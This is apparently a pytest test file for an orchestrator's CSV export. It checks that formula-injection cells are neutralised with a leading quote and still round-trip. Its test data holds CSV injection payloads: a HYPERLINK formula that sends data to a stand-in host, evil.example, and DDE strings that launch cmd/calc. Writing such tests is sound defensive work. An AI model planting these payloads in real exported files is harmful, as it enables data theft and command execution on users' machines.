"""Spreadsheet formulas: every CSV the product writes neutralises them, and retry.csv still
reads back (through the inventory reader) as the very inventory it was written from."""

from __future__ import annotations

import csv
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.cloud.client import ServerView
from orchestrator.engine.preflight import Finding, Verdict
from orchestrator.engine.preflight_run import Checked, Preflight, write_preflight
from orchestrator.inventory import InventoryReader
from orchestrator.model import RunInfo, Target, TargetSpec, TargetState
from orchestrator.report import write_report
from orchestrator.spreadsheet import neutralise, restore

REPO = Path(__file__).resolve().parents[2]
PROJECT = "0123456789abcdef0123456789abcdef"
# Values as a spreadsheet would run them, and values that only look close.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
LOOKALIKES = ("'=quoted by hand", "''two quotes", "'plain", "a=b", "plain", "")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("x=1", "x=1"),
        ("", ""),
    ],
)
def test_neutralise_and_restore(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_restore_takes_away_only_the_quote_neutralise_adds() -> None:
    # A quote before anything else is the cell's own text.
    assert restore("'plain") == "'plain"
    assert restore("'") == "'"
    assert restore("x'=1") == "x'=1"


@given(st.text())
def test_every_cell_comes_back(cell: str) -> None:
    written = neutralise(cell)
    assert restore(written) == cell
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def run_info(columns: tuple[str, ...]) -> RunInfo:
    return RunInfo(
        run_id="run-1",
        state_path="/x/state.sqlite",
        inventory_path="/x/fleet.csv",
        inventory_sha256="ab" * 32,
        created_at="2026-11-26T19:00:00Z",
        started_at=None,
        ended_at=None,
        invocations=1,
        options={},
        requests={},
        throttled=0,
        extra_columns=columns,
    )


def test_retry_csv_neutralises_and_reads_back_the_same(tmp_path: Path) -> None:
    values = [*FORMULAS, *LOOKALIKES]
    columns = ("note", '=HYPERLINK("x")', "'quoted")

    def targets() -> Iterator[Target]:
        for n, value in enumerate(values, 1):
            keyname = value if value.isprintable() and value else "kp"
            spec = TargetSpec(
                PROJECT,
                f"00000000-0000-4000-8000-{n:012x}",
                keyname,
                "u1",
                n + 1,
                extra={"note": value, columns[1]: value + "!", columns[2]: "-" + value},
            )
            yield Target(id=n, spec=spec, state=TargetState.FAILED, fail_reason=value)

    paths = write_report(tmp_path, run_info(columns), targets)
    assert paths.retry_csv is not None
    for path in (paths.retry_csv, paths.targets_csv):
        with path.open(newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    specs = list(InventoryReader(paths.retry_csv))
    assert [(s.keyname, dict(s.extra)) for s in specs] == [
        (t.spec.keyname, dict(t.spec.extra)) for t in targets()
    ]


def test_run_on_the_simulator_retry_csv_reads_back_as_the_inventory(tmp_path: Path) -> None:
    """The whole way: an inventory whose key pair names and extra columns start with
    formula characters, run with every job failing; retry.csv gives the same targets."""
    inventory = tmp_path / "fleet.csv"
    header = ["project_id", "server_id", "keyname", "userid", "note", "=cmd"]
    rows = [
        [PROJECT, f"00000000-0000-4000-8000-{n:012x}", value or "kp", "u1", value, "+" + value]
        for n, value in enumerate([v for v in (*FORMULAS, *LOOKALIKES) if v.isprintable()], start=1)
    ]
    with inventory.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    done = subprocess.run(
        [sys.executable, "-m", "orchestrator", "run", str(inventory), "--simulate",
         "--sim-job-fail-rate", "1", "--sim-job-seconds", "0.1", "--first-poll", "0.1",
         "--poll-cap", "0.2", "--no-live", "--report-dir", str(tmp_path / "reports"),
         "--state", str(tmp_path / "fleet.sqlite")],
        cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    retry_csv = next((tmp_path / "reports").glob("*/retry.csv"))
    first = list(InventoryReader(inventory))
    again = list(InventoryReader(retry_csv))
    assert len(again) == len(first) == len(rows)
    fields = [(s.project_id, s.server_id, s.keyname, s.userid, dict(s.extra)) for s in first]
    assert [(s.project_id, s.server_id, s.keyname, s.userid, dict(s.extra)) for s in again] == (
        fields
    )
    assert {"note": "", "=cmd": "+"} in [dict(s.extra) for s in again]  # the "" row
    raw = retry_csv.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and "'+cmd|" in raw and "''two quotes" in raw


def test_preflight_csv_neutralises_tab_and_carriage_return_too(tmp_path: Path) -> None:
    spec = TargetSpec(PROJECT, "00000000-0000-4000-8000-000000000001", "kp", "u1", 2)
    server = ServerView(spec.server_id, "\t=1+1", None, "\r+cmd|' /C calc'!A0", "@now")
    result = Preflight([Checked(spec, Verdict(Finding.BUSY, "-2+3"), server)])
    csv_path, _ = write_preflight(tmp_path / "pf", result, "fleet.csv", "now")
    with csv_path.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))  # one row: the CR did not end it
    assert [row[k] for k in ("reason", "status", "task_state", "launched_at")] == [
        "'-2+3",
        "'\t=1+1",
        "'\r+cmd|' /C calc'!A0",
        "'@now",
    ]
